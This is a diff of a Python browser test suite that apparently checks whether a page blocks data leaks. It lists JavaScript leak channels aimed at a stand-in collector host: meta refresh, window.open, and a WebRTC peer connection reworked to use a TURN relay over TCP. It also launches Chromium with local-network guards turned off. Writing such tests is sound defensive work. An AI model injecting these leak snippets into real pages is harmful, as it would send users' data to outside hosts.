@@ -39,7 +39,9 @@ WAYS = {
     "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${U}`;"
     " document.head.append(m)",
     "new-window": "try { window.open(U); } catch (e) {}",
-    "peer-connection": "try { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + U.slice(7, -12)}]});"
+    # A relay over TCP, since a machine without a network route sends no packet.
+    "peer-connection": "try { const c = new RTCPeerConnection({iceServers: [{username: 'u', credential: V,"
+    " urls: 'turn:' + U.slice(7, -12) + '?transport=tcp'}]});"
     " c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)); } catch (e) {}",
 }
 
@@ -95,10 +97,11 @@ def listener() -> Iterator[Listener]:
 def lured(playwright: Playwright, listener: Listener) -> Iterator[Browser]:
     """A browser for which the collector's name is the listener's, and no other name is any place.
 
-    Its own guard of local addresses is off, so that what stops a request is the page.
+    Its own guards of local addresses are off, so that what stops a request is the page.
     """
     rules = f"--host-resolver-rules=MAP {COLLECTOR} 127.0.0.1:{listener.port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
-    options = ["--no-sandbox", rules, "--disable-features=LocalNetworkAccessChecks"]
+    open_doors = ["--disable-features=LocalNetworkAccessChecks", "--allow-loopback-in-peer-connection"]
+    options = ["--no-sandbox", rules, *open_doors]
     found = playwright.chromium.launch(executable_path=CHROMIUM, args=options)
     yield found
     found.close()
